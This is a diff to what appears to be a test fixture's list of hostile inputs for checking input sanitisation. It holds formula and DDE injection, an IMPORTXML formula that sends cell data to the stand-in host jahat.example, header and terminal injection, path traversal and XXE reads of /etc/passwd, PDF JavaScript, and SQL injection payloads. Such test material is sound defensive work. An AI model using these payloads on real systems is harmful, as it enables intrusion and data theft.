@@ -45,4 +45,46 @@ ATTACKS = [
     "@SUM(1+1)*cmd|'/c calc'!A0",
     "\u202eterbalik\u2066",
     "baris\u2028baru",
+    # Spreadsheets: a formula by its first sign, after a space, a tab or a line's end, or by DDE.
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "=cmd|'/C calc'!A1",
+    "=IMPORTXML(\"http://jahat.example/?q=\"&A1,\"//a\")",
+    # Lines of a log, of a header, of a terminal.
+    "baris\r\nSet-Cookie: pwned=1\r\n\r\n<b>x</b>",
+    '\n{"level": "error", "message": "pwned"}',
+    "\x1b[2J\x1b]0;pwned\x07",
+    "a\x08b\x7fc",
+    # Names of files and folders.
+    "../../../../etc/passwd",
+    "..\\..\\x.exe",
+    "CON.txt",
+    "a/b\\c:d*e?f\"g<h>i|j",
+    "foto.jpg.html",
+    # XML of maps and workbooks, text of PDF.
+    f"]]><script>{RUNS}</script><![CDATA[",
+    f"</name><ExtendedData><x/></ExtendedData><name onload='{RUNS}'>",
+    "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
+    "&x;&amp;&#0;&#xd;",
+    "_x003C_b_x003E_",
+    f"(a)) /JS (app.alert(1)) /OpenAction << /S /JavaScript /JS ({RUNS}) >>",
+    "<para><b>tebal</b><link href='http://jahat.example'>x</link></para>",
+    # Words that a program would fill in, and SQL.
+    "%s %(x)s %d %n {0} {x!r} {x.__class__} {count, plural, other {#}}",
+    "1 OR 1=1) UNION SELECT password_hash FROM app_user --",
+    "\\'; SELECT pg_sleep(9); --",
+    "url(javascript:window.pwned=1) expression(alert(1))",
+    # Letters that are looked at twice.
+    "\u200bnol\u200d lebar\ufeff",
+    "e\u0301\u0302\u0303\u0304\u0305 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1ee\U0001f1e9",
+    "\ufdd0\ufffe\U0010ffff",
+    "İstanbul ß ŉ ﬁ",
+    "P" * 600,
 ]  # fmt: skip
+#: What no text of the database can hold: it must be turned away where it comes in.
+UNTOLD = ["a\0b", "<b>\0</b>"]
+#: A name of something that is also part of addresses: an attack on markup, template and query.
+CODE = f"'\"><svg onload={RUNS}>{{{{7*7}}}} & =1+1;--"
